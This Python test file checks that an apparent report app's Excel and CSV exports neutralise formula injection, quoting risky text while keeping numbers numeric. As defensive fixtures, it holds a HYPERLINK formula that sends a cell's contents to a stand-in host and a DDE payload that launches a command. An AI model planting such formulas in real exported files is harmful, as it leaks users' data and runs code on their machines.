"""Formula injection: user text never becomes a live formula in the workbook or the CSVs."""

from __future__ import annotations

import csv

import pandas as pd
import pytest
from openpyxl import load_workbook
from test_tables_fixtures import make_areas, make_matrix, make_sites

from access_app.core import export
from access_app.core.export.safety import neutralise_frame, neutralise_text
from access_app.core.scenarios import Scenario, assign_all
from access_app.core.tables import build_report

HOSTILE_SITE = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
HOSTILE_AREA = "@SUM(1+1)*cmd|' /C calc'!A0"
SCENARIOS = ("=1+2", "+1+2", "-2+3", "@A1")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    areas = make_areas()
    areas.loc[areas.area_id == "A2", "area_name"] = HOSTILE_AREA
    areas.loc[areas.area_id == "A3", "network"] = "-North"  # a network name from a user table
    sites = make_sites()
    sites.loc[sites.site_id == "S1", "site_name"] = HOSTILE_SITE
    scs = [Scenario("Plain", open_sites=("S1", "S3"))]
    scs += [Scenario(name, open_sites=("S1", "S2", "S3", "S4")) for name in SCENARIOS]
    report = build_report(assign_all(areas, sites, make_matrix(), scs), areas, sites)
    out = tmp_path_factory.mktemp("hostile")
    export.write_all(report, out, areas=areas, metadata={"Source": "=2*3"})
    return out, report


def test_neutralise_text_follows_owasp():
    for text in ("=1+2", "+1", "-1", "@A1", "\t=1", "\r=1", "-"):
        assert neutralise_text(text) == "'" + text
    for text in ("Site One", "1-2", "", "a=b", "'=quoted already"):
        assert neutralise_text(text) == text


def test_neutralise_frame_leaves_numbers_alone():
    frame = pd.DataFrame(
        {
            "name": ["=1+2", "ok", None, "-3"],
            "number": [-1.5, 2.0, -3.0, 4.0],
            "count": [-1, 2, 3, -4],
            "mixed": [-7, "=x", 1.5, None],
        }
    )
    out = neutralise_frame(frame)
    assert out["name"].tolist()[:2] == ["'=1+2", "ok"] and pd.isna(out["name"][2])
    assert out["name"][3] == "'-3"  # text stays text, quoted
    assert out["number"].tolist() == [-1.5, 2.0, -3.0, 4.0] and out["number"].dtype == float
    assert out["count"].tolist() == [-1, 2, 3, -4]
    assert out["mixed"].tolist()[:3] == [-7, "'=x", 1.5]  # the negative number is untouched
    assert frame["name"][0] == "=1+2"  # input not modified


def test_string_dtype_columns_are_neutralised():
    frame = pd.DataFrame({"name": pd.array(["=1", "x", None], dtype="string")})
    out = neutralise_frame(frame)
    assert out["name"].tolist()[:2] == ["'=1", "x"] and out["name"].isna().tolist() == [False, False, True]


def test_workbook_holds_no_formula_and_keeps_text(hostile):
    out, _ = hostile
    wb = load_workbook(out / "equity_report.xlsx")
    formulas = [
        (ws.title, cell.coordinate, cell.value)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    summary = wb["Summary"]
    heads = [c.value for c in summary[1]]
    assert heads[1:6] == ["Plain", *SCENARIOS]
    assert all(c.data_type == "s" for c in summary[1][1:])
    risky = [c for c in summary[1] if isinstance(c.value, str) and c.value.startswith(("=", "+", "-"))]
    assert risky and all(c.quotePrefix for c in risky)
    sites = wb["Sites"]
    names = {c.value for row in sites.iter_rows(min_row=2) for c in row}
    assert HOSTILE_SITE in names
    meta = {r[0]: r[1] for r in wb["Metadata"].iter_rows(values_only=True) if r and r[0]}
    assert meta["Source"] == "=2*3"


def test_workbook_numbers_stay_numbers(hostile):
    out, report = hostile
    ws = load_workbook(out / "equity_report.xlsx")["Summary"]
    heads = [c.value for c in ws[1]]
    rows = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    expected = report.summary.set_index("scenario")
    col = heads.index("Change: =1+2")
    negatives = 0
    for column in ("mean_min", "median_min", "p90_min", "within_30_share", "within_45_share"):
        places = 3 if column.endswith("_share") else 1
        diff = expected.loc["=1+2", column] - expected.loc["Plain", column]
        cell = rows[export.label(column)][col]
        assert cell.data_type == "n" and cell.value == round(diff, places), column
        negatives += cell.value < 0
    assert negatives >= 2  # opening more sites shortens journeys: negative numbers stay numbers


def test_csv_cells_are_prefixed_and_numbers_unchanged(hostile):
    out, report = hostile
    with (out / "summary.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["scenario"] for r in rows] == ["Plain", *("'" + s for s in SCENARIOS)]
    for row, (_, expected) in zip(rows, report.summary.iterrows(), strict=True):
        assert float(row["mean_min"]) == expected["mean_min"]
    with (out / "area_results.csv").open(encoding="utf-8-sig", newline="") as fh:
        areas = list(csv.DictReader(fh))
    a2 = [r for r in areas if r["area_id"] == "A2"]
    assert a2 and all(r["area_name"] == "'" + HOSTILE_AREA for r in a2)
    s1 = [r for r in areas if r["site_id"] == "S1"]
    assert s1 and all(r["site_name"] == "'" + HOSTILE_SITE for r in s1)
    assert {r["network"] for r in areas if r["area_id"] == "A3"} == {"'-North"}
    # A negative number in a numeric column is written as a number, without a quote.
    with (out / "changes.csv").open(encoding="utf-8-sig", newline="") as fh:
        changes = list(csv.DictReader(fh))
    negatives = [r["change_mean_min"] for r in changes if r["change_mean_min"].startswith("-")]
    assert negatives and all(float(v) < 0 for v in negatives)
    assert not any(v.startswith("'") for r in changes for k, v in r.items() if k.endswith("_min"))


def test_every_csv_cell_is_safe(hostile):
    out, _ = hostile
    for path in out.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for value in row:
                    if value[:1] in ("=", "+", "@", "\t", "\r"):
                        pytest.fail(f"{path.name}: unquoted formula-like cell {value!r}")
                    if value.startswith("-"):
                        float(value)  # only numbers may start with a minus sign
